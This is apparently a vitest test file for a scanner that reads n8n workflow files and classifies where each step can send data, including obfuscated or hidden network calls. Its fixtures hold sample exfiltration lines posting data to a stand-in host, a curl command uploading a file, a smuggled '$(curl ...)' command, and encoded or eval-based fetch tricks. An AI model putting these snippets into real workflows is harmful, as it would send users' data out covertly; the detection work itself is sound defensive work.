import { describe, expect, test } from 'vitest'
import facts from '../../../src/workflow/rules/facts/nodes.ts?raw'
import { addressOfParameter } from '../../../src/workflow/rules/destinations/address.ts'
import { isRead } from '../../../src/workflow/rules/destinations/node-reach.ts'
import { nodeFacts } from '../../../src/workflow/rules/facts/lookup.ts'
import { readCode } from '../../../src/workflow/rules/destinations/read-code.ts'
import { inspectWorkflow } from '../../../src/workflow/rules/inspect.ts'
import { inspected } from '../../../src/workflow/data/inspected.ts'
import { aFile, aNode, type Link, read } from './files.ts'

const BASE = 'n8n-nodes-base'
const AI = '@n8n/n8n-nodes-langchain'

const reached = (nodes: object[], links: Link[] = []) =>
  inspectWorkflow(read(aFile(nodes, links)), readCode).destinations.map(({ kind, name }) => `${kind} ${name}`.trim())
const ofOne = (type: string, parameters: object) => reached([aNode('A', type, { parameters })])
const request = (url: string, more: object = {}) => ofOne(`${BASE}.httpRequest`, { url, ...more })
const code = (jsCode: string) => ofOne(`${BASE}.code`, { jsCode })
const python = (pythonCode: string) => ofOne(`${BASE}.code`, { language: 'python', pythonCode })

describe('The address of a request', () => {
  test.each([
    ['https://api.openai.com/v1', 'service OpenAI'],
    ['https://collect.evil-corp.io', 'unknown evil-corp.io'],
    ['https://a.evil.co.uk/x', 'unknown evil.co.uk'],
    ['http://203.0.113.7:8080/x', 'unknown an IP address'],
    ['https://abc.ngrok-free.app/hook', 'unknown *.ngrok-free.app'],
    ['https://user:word@collect.evil-corp.io', 'unknown evil-corp.io'],
    ['http://localhost:5678/rest', 'own your own network'],
    ['http://192.168.1.20/api', 'own your own network'],
    ['https://your-server.example.com/x', 'own'],
    ['', 'own'],
    ['=https://api.openai.com/v1/{{ $json.id }}', 'service OpenAI'],
    ['={{ $json.url }}', 'runtime'],
    ['=https://{{ $json.host }}/x', 'runtime'],
    ['=https://api.openai.com{{ $json.rest }}', 'runtime'],
    ['=https://{{ $json.shop }}.zendesk.com/api', 'runtime'],
    ['=https://{{ "evil.io/" }}.slack.com/api', 'runtime'],
    ["={{ 'https://api.openai.com/v1/' + $json.id }}", 'service OpenAI'],
    ["={{ 'https://collect.evil-corp' + '.io' }}", 'runtime'],
    ["={{ 'https:/' + '/collect' + '.evil-corp.io' }}", 'runtime'],
    ['=https:/{{ $json.rest }}', 'runtime'],
    ['={{ $json.scheme }}//evil.io', 'runtime'],
    ["={{ 'https://api.openai.com/' + $json.x ? 'https://evil.io' : '' }}", 'runtime'],
    ['={{ `https://api.openai.com/${$json.id}` }}', 'service OpenAI'],
    ['={{ `https://${$json.host}/` }}', 'runtime'],
    ["={{ 'https://api.openai.com/v1' }}", 'service OpenAI'],
    ["={{ atob('aHR0cHM6Ly9ldmlsLmlv') }}", 'runtime'],
    ['={{ $env.API_URL }}/v1', 'own'],
    ['={{ $vars.apiUrl }}', 'own'],
    ['https://hooks.zapier.com/hooks/catch/1/abc', 'account Zapier'],
    ['https://script.google.com/macros/s/AKf/exec', 'account Google'],
    ['https://discord.com/api/webhooks/1/abc', 'account Discord'],
    ['https://abcdefghijklmnopqrst.supabase.co/rest/v1/x', 'account Supabase'],
    ['https://leads.s3.amazonaws.com/in', 'account AWS'],
    ['https://leads.execute-api.us-east-1.amazonaws.com/in', 'account AWS'],
  ])('%s leads to: %s', (url, destination) => {
    expect(request(url)).toEqual([destination])
  })

  test('An address of a tool that the agent completes is open; a proxy and a callback receive data too', () => {
    expect(ofOne(`${AI}.toolHttpRequest`, { url: 'https://{host}/x' })).toEqual(['runtime'])
    expect(request('https://api.openai.com/v1', { options: { proxy: 'http://evil.io:3128' } })).toEqual([
      'unknown evil.io',
      'service OpenAI',
    ])
    expect(
      request('https://api.replicate.com/v1', { jsonBody: '{"webhook": "https://collect.evil-corp.io/x"}' }),
    ).toEqual(['unknown evil-corp.io', 'service Replicate'])
  })

  test('A value of a Set step is read where it is named, and where no other step leads in', () => {
    const config = aNode('Config', `${BASE}.set`, {
      parameters: { assignments: { assignments: [{ name: 'base', value: 'https://collect.evil-corp.io' }] } },
    })
    const call = (url: string) => aNode('Call', `${BASE}.httpRequest`, { parameters: { url } })
    const other = aNode('Other', `${BASE}.noOp`)
    expect(reached([config, call("={{ $('Config').item.json.base }}/v1")])).toEqual(['unknown evil-corp.io'])
    expect(reached([config, call('={{ $node["Config"].json["base"] }}')])).toEqual(['unknown evil-corp.io'])
    expect(reached([config, call('={{ $json.base }}')], [['Config', 'Call']])).toEqual(['unknown evil-corp.io'])
    expect(
      reached(
        [config, other, call('={{ $json.base }}')],
        [
          ['Config', 'Call'],
          ['Other', 'Call'],
        ],
      ),
    ).toEqual(['runtime'])
    expect(reached([config, call("={{ $('Config').item.json.other }}")])).toEqual(['runtime'])
  })

  test('A reference that leads in a circle ends', () => {
    expect(addressOfParameter('={{ $json.a }}', () => ['={{ $json.a }}'])).toEqual([{ kind: 'runtime' }])
  })
})

describe('JavaScript', () => {
  test.each([
    ['return items.map((item) => ({ json: { ...item.json, n: item.json.list[0] } }))'],
    ['const o = { fetch: 1, request: 2 }; return o.request'],
    ['// fetch("https://evil.io")\nreturn $input.all()'],
    ['return [{ json: { text: "call fetch() at https://evil.io" } }]'],
    ['const crypto = require("crypto"); return crypto.createHash("sha1")'],
    ['return await this.helpers.prepareBinaryData(Buffer.from("a"), "a.txt")'],
    ['class A { constructor() { this.x = 1 } }\nreturn new A()'],
    ['catchError(e => e.constructor.name)'],
    ['return $json.constructor.name'],
  ])('%s reaches nothing', (text) => {
    expect(code(text)).toEqual([])
  })

  test.each([
    ['await fetch("https://collect.evil-corp.io", { body })', ['unknown evil-corp.io']],
    ['await fetch(`https://api.openai.com/v1/${id}`)', ['service OpenAI']],
    ['const url = "https://api.openai.com/v1"; await fetch(url)', ['service OpenAI']],
    [
      'await this.helpers.httpRequest({ method: "POST", url: "https://collect.evil-corp.io", body })',
      ['unknown evil-corp.io'],
    ],
    ['await $helpers.httpRequest({ url: "https://api.openai.com/v1" })', ['service OpenAI']],
    ['const axios = require("axios"); await axios.get("https://api.openai.com/v1")', ['service OpenAI']],
    ['await fetch("https://coll" + "ect.evil-corp.io/" + id)', ['unknown evil-corp.io']],
    ['await fetch(url)', ['hidden code']],
    ['let url = "https://api.openai.com"; url = x; await fetch(url)', ['hidden code', 'service OpenAI']],
    ['await fetch("https://api.openai.com".replace("openai", "evil"))', ['hidden code', 'service OpenAI']],
    ['await fetch(atob("aHR0cHM6Ly9jb2xsZWN0LmV2aWwtY29ycC5pbw=="))', ['hidden code', 'unknown evil-corp.io']],
    ['const f = this.helpers["http" + "Request"]; await f({ url })', ['hidden code']],
    ['const t = this; await t["helpers"].httpRequest({ url })', ['hidden code']],
    ['await globalThis["fet" + "ch"](url)', ['hidden code']],
    ['f\\u0065tch(url)', ['hidden code']],
    ['[]["constructor"]["constructor"]("return 1")()', ['hidden code']],
    ['[].filter.constructor("return 1")()', ['hidden code']],
    ['new Function("return 1")()', ['hidden code']],
    ['eval(text)', ['hidden code']],
    ['await import("node:net")', ['hidden code']],
    ['const n = require("net"); n.connect(1)', ['hidden code']],
    ['process.binding("tcp_wrap")', ['hidden code']],
    ['new WebSocket("wss://collect.evil-corp.io")', ['hidden code', 'unknown evil-corp.io']],
  ])('%s reaches: %j', (text, destinations) => {
    expect(code(text)).toEqual(destinations)
  })

  test('Code that is too long to read may reach anything', () => {
    expect(code(`return 1 // ${'a'.repeat(200_000)}`)).toEqual(['hidden code'])
  })

  test('Code of functions, tools and AI nodes counts too', () => {
    const text = 'await fetch(url)'
    expect(ofOne(`${BASE}.function`, { functionCode: text })).toEqual(['hidden code'])
    expect(ofOne(`${AI}.toolCode`, { jsCode: text })).toEqual(['hidden code'])
    expect(ofOne(`${AI}.code`, { code: { execute: { code: text } } })).toEqual(['hidden code'])
  })
})

describe('Python', () => {
  test.each([
    ['import json, re\nreturn json.loads("{}")', []],
    ['# import requests\nreturn _input.all()', []],
    ['text = "import requests"\nreturn text', []],
    ['import requests\nrequests.post("https://collect.evil-corp.io", json=x)', ['unknown evil-corp.io']],
    ['import requests\nrequests.post(url, json=x)', ['hidden code']],
    ['import requests as r\nr.post("https://collect.evil-corp.io")', ['hidden code', 'unknown evil-corp.io']],
    ['from js import fetch\nawait fetch(url)', ['hidden code']],
    ['__import__("so" + "cket")', ['hidden code']],
    ['eval(text)', ['hidden code']],
  ])('%s reaches: %j', (text, destinations) => {
    expect(python(text)).toEqual(destinations)
  })
})

describe('Other steps', () => {
  test.each([
    [
      `${BASE}.executeCommand`,
      { command: 'curl -d @x https://collect.evil-corp.io' },
      ['hidden command', 'unknown evil-corp.io'],
    ],
    [`${BASE}.executeCommand`, { command: 'df -h | grep sda' }, []],
    [`${BASE}.executeCommand`, { command: 'ls $(curl evil.io)' }, ['hidden command']],
    [`${BASE}.ssh`, { command: '={{ $json.sh }}' }, ['hidden command', 'own SSH']],
    [`${BASE}.emailSend`, {}, ['own Email']],
    [`${BASE}.postgres`, {}, ['own Postgres']],
    [`${BASE}.slack`, {}, ['service Slack']],
    [
      `${BASE}.discord`,
      { authentication: 'webhook', webhookUri: 'https://discord.com/api/webhooks/1/a' },
      ['account Discord', 'service Discord'],
    ],
    [
      `${AI}.lmChatOpenAi`,
      { options: { baseURL: 'https://llm.evil-corp.io/v1' } },
      ['unknown evil-corp.io', 'service OpenAI'],
    ],
    [`${BASE}.graphql`, { endpoint: '={{ $json.url }}' }, ['runtime']],
    [`${BASE}.rssFeedRead`, { url: 'https://blog.acme.com/feed' }, ['unknown acme.com']],
    [`${AI}.mcpClientTool`, { endpointUrl: 'https://mcp.acme.com/sse' }, ['unknown acme.com']],
    [
      `${BASE}.respondToWebhook`,
      { respondWith: 'redirect', redirectURL: '={{ $json.to }}' },
      ['runtime', 'caller webhook'],
    ],
    [`${BASE}.html`, { html: '<form action="https://collect.evil-corp.io">' }, ['unknown evil-corp.io']],
    [`${BASE}.executeWorkflow`, { source: 'database' }, ['workflow']],
    [`${BASE}.executeWorkflow`, { workflowId: '={{ $workflow.id }}' }, []],
    [`${BASE}.executeWorkflow`, { workflowId: '={{ $workflow.id + $json.id }}' }, ['workflow']],
    [`${BASE}.executeWorkflow`, { source: 'url', workflowId: '={{ $workflow.id }}' }, ['workflow']],
    [`${BASE}.dataTable`, {}, ['kept table']],
    [`${BASE}.webhook`, { responseMode: 'lastNode' }, ['caller webhook']],
    [`${BASE}.webhook`, {}, []],
    ['@apify/n8n-nodes-apify.apify', {}, ['foreign @apify/n8n-nodes-apify']],
    [`${BASE}.notYetKnown`, {}, ['foreign']],
    [`${BASE}.spontit`, {}, ['service Spontit']],
    [`${BASE}.set`, {}, []],
  ])('%s with %j reaches: %j', (type, parameters, destinations) => {
    expect(ofOne(type, parameters)).toEqual(destinations)
  })

  test('A workflow that is brought along is read, one within another too', () => {
    const inner = aFile([aNode('X', `${BASE}.httpRequest`, { parameters: { url: 'https://collect.evil-corp.io' } })])
    expect(ofOne(`${BASE}.executeWorkflow`, { source: 'parameter', workflowJson: JSON.stringify(inner) })).toEqual([
      'unknown evil-corp.io',
    ])
    expect(ofOne(`${BASE}.executeWorkflow`, { source: 'parameter', workflowJson: '={{ $json.w }}' })).toEqual([
      'workflow',
    ])
  })

  const fetching = aNode('X', `${BASE}.code`, { parameters: { jsCode: 'fetch("https://collect.evil-corp.io")' } })
  const bringing = (workflowJson: unknown) =>
    aNode('A', `${BASE}.executeWorkflow`, { parameters: { source: 'parameter', workflowJson } })
  test.each([
    ['a step', fetching],
    ['a workflow that is brought along', bringing(JSON.stringify(aFile([fetching])))],
    ['a workflow within another', bringing(aFile([bringing(aFile([fetching]))]))],
  ])('The browser reads the code of %s as the server does', async (_, node) => {
    const file = read(aFile([node]))
    const { check } = await inspected(file)
    expect(check.destinations).toEqual(inspectWorkflow(file, readCode).namedDestinations)
    expect(check.destinations).toMatchObject([{ kind: 'unknown', host: 'collect.evil-corp.io' }])
  })

  test('A step without an app reaches that of its credential', () => {
    const credentials = { googleSheetsOAuth2Api: { id: '1', name: 'Google Sheets account' } }
    expect(reached([aNode('A', `${BASE}.evaluation`, { credentials })])).toEqual(['service Google Sheets'])
  })

  test('Steps that are turned off send nothing', () => {
    expect(reached([aNode('A', `${BASE}.slack`, { disabled: true })])).toEqual([])
  })

  test('The gravest come first, with the steps that lead there', () => {
    const { destinations, namedDestinations } = inspectWorkflow(
      read(
        aFile([
          aNode('Tell', `${BASE}.slack`),
          aNode('Send', `${BASE}.httpRequest`, { parameters: { url: 'https://a.evil-corp.io' } }),
          aNode('Again', `${BASE}.httpRequest`, { parameters: { url: 'https://b.evil-corp.io' } }),
          aNode('Run', `${BASE}.code`, { parameters: { jsCode: 'fetch(x)' } }),
        ]),
      ),
      readCode,
    )
    expect(destinations).toEqual([
      { kind: 'hidden', name: 'code', steps: [3] },
      { kind: 'unknown', name: 'evil-corp.io', steps: [1, 2] },
      { kind: 'service', name: 'Slack', steps: [0] },
    ])
    expect(namedDestinations.map(({ host, nodes }) => [host, nodes])).toEqual([
      ['', ['Run']],
      ['a.evil-corp.io', ['Send']],
      ['b.evil-corp.io', ['Again']],
      ['', ['Tell']],
    ])
  })

  test('Of every step of n8n without an app is known what it reaches', () => {
    const rows = facts.split('export const aiNodes')
    const types = rows.flatMap((table, index) =>
      table.split('\n').flatMap((line) => {
        const [name] = line.split(' | ')
        return line.includes(' | ') && /^\w+$/.test(name!) ? [`${index === 0 ? BASE : AI}.${name}`] : []
      }),
    )
    expect(types.length).toBeGreaterThan(400)
    expect(types.filter((type) => !nodeFacts(type)?.app && !isRead(type))).toEqual([])
  })
})
